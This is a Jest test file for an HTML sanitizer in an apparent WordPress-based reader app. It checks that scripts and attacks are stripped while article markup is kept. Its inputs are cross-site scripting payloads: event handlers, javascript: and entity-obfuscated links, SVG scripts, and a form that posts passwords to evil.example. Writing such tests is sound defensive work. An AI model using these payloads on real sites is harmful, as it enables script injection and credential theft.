import { executableParts } from '../../test/inert-markup';
import { sanitizeHtml } from './sanitize-html';

function parse(html: string): HTMLElement {
  const container = document.createElement('div');
  // jsdom has no Trusted Types: the result is the string.
  container.innerHTML = sanitizeHtml(html) as string;
  return container;
}

describe('sanitizeHtml', () => {
  it.each([
    ['a script element', '<p>ok</p><script>window.__pwned = 1</script>'],
    ['an event handler', '<img src="x" onerror="window.__pwned = 1">'],
    ['a javascript: link', '<a href="javascript:window.__pwned=1">click</a>'],
    ['an entity-encoded javascript: link', '<a href="jav&#x09;ascript:alert(1)">click</a>'],
    ['an svg with a script', '<svg><script>window.__pwned = 1</script><circle onload="window.__pwned=1"/></svg>'],
    ['a form that posts elsewhere', '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>'],
    ['an unknown iframe', '<iframe src="https://evil.example/frame"></iframe>'],
    ['an object embed', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'],
    ['a style tag', '<style>body{display:none}</style><p style="position:fixed;inset:0">cover</p>'],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ])('removes %s', (_name, html) => {
    const result = parse(html);
    expect(executableParts(result)).toEqual([]);
    expect(result.querySelector('script, form, input, button, iframe, object, embed, style, meta')).toBeNull();
    expect(result.querySelector('[style]')).toBeNull();
  });

  it('keeps what an article needs: figures, captions, headings, lists, tables, quotes, lang and dir', () => {
    const html = `
      <h2>Heading</h2>
      <figure class="wp-block-image"><img src="/media/a-1024.jpg" alt="Thierry Breton" width="1024" height="576" srcset="/media/a-300.jpg 300w, /media/a-1024.jpg 1024w" sizes="100vw"><figcaption>Thierry Breton</figcaption></figure>
      <ul><li>one</li></ul><ol><li>two</li></ol>
      <table><thead><tr><th>Brand</th></tr></thead><tbody><tr><td>SeaMac</td></tr></tbody></table>
      <blockquote class="wp-block-quote"><p>Quoted</p></blockquote>
      <p>Met <span lang="ja">こうのたろう</span> and <span dir="rtl" lang="ar">مرحبا</span></p>`;
    const result = parse(html);
    expect(result.querySelector('h2')?.textContent).toBe('Heading');
    expect(result.querySelector('figure figcaption')?.textContent).toBe('Thierry Breton');
    const image = result.querySelector('img')!;
    expect(image.getAttribute('alt')).toBe('Thierry Breton');
    expect(image.getAttribute('srcset')).toContain('300w');
    expect(image.getAttribute('loading')).toBe('lazy');
    expect(result.querySelectorAll('ul li, ol li')).toHaveLength(2);
    expect(result.querySelector('td')?.textContent).toBe('SeaMac');
    expect(result.querySelector('blockquote p')?.textContent).toBe('Quoted');
    expect(result.querySelector('[lang="ja"]')?.textContent).toBe('こうのたろう');
    expect(result.querySelector('[dir="rtl"]')?.getAttribute('lang')).toBe('ar');
  });

  it('keeps links to the site inside the reader and opens other sites safely', () => {
    const result = parse(`
      <a href="/news/another-story">internal</a>
      <a href="${window.location.origin}/2023/07/05/dated-story/">permalink</a>
      <a href="${window.location.origin}/category/company-news/">category</a>
      <a href="https://example.com/elsewhere">external</a>
      <a href="#section">anchor</a>`);
    const links = [...result.querySelectorAll('a')];
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      '/news/another-story',
      '/news/dated-story',
      '/category/company-news',
      'https://example.com/elsewhere',
      '#section',
    ]);
    const external = links[3]!;
    expect(external.getAttribute('target')).toBe('_blank');
    expect(external.getAttribute('rel')).toBe('noopener noreferrer');
    expect(links[0]!.hasAttribute('target')).toBe(false);
  });

  it('turns a known player into a link to it that names the player, and loads nothing', () => {
    const result = parse('<iframe src="https://www.youtube-nocookie.com/embed/aqz-KE-bpKQ" onload="window.__pwned=1"></iframe>');
    expect(result.querySelector('iframe')).toBeNull();
    const link = result.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://www.youtube-nocookie.com/embed/aqz-KE-bpKQ');
    expect(link.dataset.embedPlayer).toBe('https://www.youtube-nocookie.com/embed/aqz-KE-bpKQ');
    expect(link.dataset.embedProvider).toBe('YouTube');
    expect(executableParts(result)).toEqual([]);
  });

  it("turns WordPress's embed block into a link to the content, with or without WordPress's own iframe", () => {
    const saved = '<figure class="wp-block-embed is-type-video is-provider-vimeo"><div class="wp-block-embed__wrapper">\nhttps://vimeo.com/76979871\n</div></figure>';
    const fetched =
      '<figure class="wp-block-embed is-provider-youtube"><div class="wp-block-embed__wrapper"><iframe title="Tour" src="https://www.youtube.com/embed/aqz-KE-bpKQ?feature=oembed" allowfullscreen></iframe></div></figure>';
    const vimeo = parse(saved).querySelector<HTMLAnchorElement>('.wp-block-embed__wrapper > a')!;
    const youtube = parse(fetched).querySelector<HTMLAnchorElement>('.wp-block-embed__wrapper > a')!;
    expect(vimeo.textContent).toBe('https://vimeo.com/76979871');
    expect(vimeo.dataset.embedPlayer).toBe('https://player.vimeo.com/video/76979871');
    expect(vimeo.getAttribute('target')).toBe('_blank');
    expect(youtube.dataset.embedPlayer).toBe('https://www.youtube-nocookie.com/embed/aqz-KE-bpKQ');
  });

  it('leaves an embed of an unknown provider as the link WordPress gave, and drops its iframe', () => {
    const result = parse('<figure class="wp-block-embed"><div class="wp-block-embed__wrapper"><iframe src="https://evil.example/x"></iframe><a href="https://evil.example/x">x</a></div></figure>');
    expect(result.querySelector('iframe, [data-embed-player]')).toBeNull();
    expect(result.querySelector('a')?.getAttribute('href')).toBe('https://evil.example/x');
  });

  it('keeps an inline SVG icon, as WordPress draws social links, without anything that runs', () => {
    const result = parse(
      '<li class="wp-social-link"><a href="https://www.linkedin.com/"><svg width="24" height="24" viewBox="0 0 24 24" aria-hidden="true" onload="window.__pwned=1"><path d="M0 0h24v24H0z"></path><a href="javascript:window.__pwned=1"><circle r="2"></circle></a></svg><span class="screen-reader-text">LinkedIn</span></a></li>',
    );
    expect(result.querySelector('svg path')).not.toBeNull();
    expect(executableParts(result)).toEqual([]);
  });

  it('keeps the layout blocks write inline and drops what would reach outside the block', () => {
    const result = parse('<div style="height:60px" aria-hidden="true" class="wp-block-spacer"></div><p class="has-text-color" style="color:#0b6e4f;position:fixed;top:0">x</p>');
    expect(result.querySelector('.wp-block-spacer')?.getAttribute('style')).toBe('height:60px');
    expect(result.querySelector('p')?.getAttribute('style')).toBe('color:light-dark(#0b6e4f,var(--color-text))');
  });
});
